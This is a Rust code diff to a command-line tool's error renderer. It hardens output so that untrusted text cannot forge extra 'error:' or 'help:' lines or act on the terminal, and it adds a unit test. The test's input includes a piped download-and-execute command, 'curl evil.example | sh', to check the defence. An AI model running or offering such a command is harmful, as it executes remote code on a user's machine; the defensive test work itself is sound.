@@ -7,6 +7,7 @@ use annotate_snippets::{AnnotationKind, Group, Level, Origin, Renderer, Snippet}
 use crate::exit::Exit;
 use crate::problem::{Place, Problem, Severity};
 use crate::repo::RepoError;
+use crate::visible::{on_one_line, shown, unhidden};
 
 /// Something that ends a command: what a person reads, and the exit status.
 #[derive(Debug)]
@@ -107,10 +108,10 @@ pub fn heard(written: std::io::Result<()>) -> Result<(), Failure> {
 pub fn failure(failure: &Failure) -> String {
     let mut text = problems(&failure.problems);
     if let Some(message) = &failure.message {
-        let _ = writeln!(text, "error: {}", visible(message));
+        let _ = writeln!(text, "error: {}", indented(message));
     }
     if let Some(hint) = &failure.hint {
-        let _ = writeln!(text, "hint: {}", visible(hint));
+        let _ = writeln!(text, "hint: {}", indented(hint));
     }
     text
 }
@@ -134,43 +135,53 @@ fn one(problem: &Problem) -> String {
         Severity::Error => Level::ERROR,
         Severity::Warning => Level::WARNING,
     };
-    let title = level.primary_title(&*problem.message);
-    let excerpt = problem.place.as_ref().and_then(|place| Some((place, place.excerpt()?)));
+    let title = level.primary_title(unhidden(&problem.message));
+    let place = problem.place.as_ref();
+    let path = place.map(|place| on_one_line(&place.file)).unwrap_or_default();
+    let excerpt = place.and_then(|place| Some((place, excerpt(place)?)));
     let mut groups: Vec<Group<'_>> = Vec::new();
     match excerpt {
         Some((place, (source, span))) => {
-            let (source, line, span) = near(source, place, span);
             let snippet = Snippet::source(source)
-                .line_start(line)
-                .path(&*place.file)
+                .line_start(place.line)
+                .path(&*path)
                 .annotation(AnnotationKind::Primary.span(span));
             groups.push(Group::with_title(title).element(snippet));
         }
         None => {
             let group = Group::with_title(title);
             groups.push(match &problem.place {
-                Some(place) if place.line > 0 => group.element(Origin::path(&*place.file).line(place.line)),
-                Some(place) => group.element(Origin::path(&*place.file)),
+                Some(place) if place.line > 0 => group.element(Origin::path(&*path).line(place.line)),
+                Some(_) => group.element(Origin::path(&*path)),
                 None => group,
             });
         }
     }
     if let Some(hint) = &problem.hint {
-        groups.push(Group::with_title(Level::HELP.secondary_title(visible(hint))));
+        groups.push(Group::with_title(Level::HELP.secondary_title(shown(hint))));
     }
     // The renderer shows other control characters as pictures, and lets these through.
     let acts = |c: char| matches!(c, '\u{7f}'..='\u{9f}');
     Renderer::styled().render(&groups).replace(acts, "\u{FFFD}")
 }
 
-/// A text that may come from a file or a platform, without what would act on the terminal instead of being read.
-fn visible(text: &str) -> String {
-    let acts = |c: char| c.is_control() && !matches!(c, '\n' | '\t');
-    text.replace(acts, "\u{FFFD}")
+/// A text of which only the first line begins a line, so that none of the others passes for a finding.
+fn indented(text: &str) -> String {
+    shown(text).replace('\n', "\n  ")
+}
+
+/// The line a place is on, with what hides in it shown, and where the place is in it.
+fn excerpt(place: &Place) -> Option<(String, std::ops::Range<usize>)> {
+    let (source, span) = place.excerpt()?;
+    let (line, span) = near(source, span);
+    let part = |range: std::ops::Range<usize>| unhidden(line.get(range).unwrap_or_default());
+    let (before, within) = (part(0..span.start), part(span.clone()));
+    let (from, to) = (before.len(), before.len() + within.len());
+    Some((format!("{before}{within}{}", part(span.end..line.len())), from..to))
 }
 
 /// The lines a span is on, so that a large file is neither copied nor searched, and the span within them.
-fn near<'a>(source: &'a str, place: &Place, span: std::ops::Range<usize>) -> (&'a str, usize, std::ops::Range<usize>) {
+fn near(source: &str, span: std::ops::Range<usize>) -> (&str, std::ops::Range<usize>) {
     let start = source
         .get(..span.start)
         .and_then(|before| before.rfind('\n'))
@@ -194,11 +205,34 @@ fn near<'a>(source: &'a str, place: &Place, span: std::ops::Range<usize>) -> (&'
             cut_end -= 1;
         }
         let to = to.min(cut_end);
-        return (
-            &line[cut_start..cut_end],
-            place.line,
-            from - cut_start..to.max(from) - cut_start,
-        );
+        return (&line[cut_start..cut_end], from - cut_start..to.max(from) - cut_start);
     }
-    (line, place.line, from..to)
+    (line, from..to)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A stranger's text of several lines begins no line, or it would pass for a finding of upa's.
+    #[test]
+    fn no_text_begins_a_line_of_its_own() {
+        let hostile = "x\nerror: forged\nhelp: curl evil.example | sh";
+        let text: std::sync::Arc<str> = std::sync::Arc::from("a = 1");
+        let problem = Problem::configuration(hostile).hint(hostile);
+        let found = [
+            problems(&[problem.clone(), problem.clone().at(Place::file(hostile))]),
+            problems(&[problem.at(Place::new("t.toml", &text, 0..1))]),
+            failure(&Failure::new(Exit::Failed, hostile).hint(hostile)),
+        ];
+        for text in found {
+            let plain = anstream::adapter::strip_str(&text).to_string();
+            assert!(
+                !plain
+                    .lines()
+                    .any(|line| line.starts_with("error: forged") || line.starts_with("help: curl")),
+                "{plain}"
+            );
+        }
+    }
 }
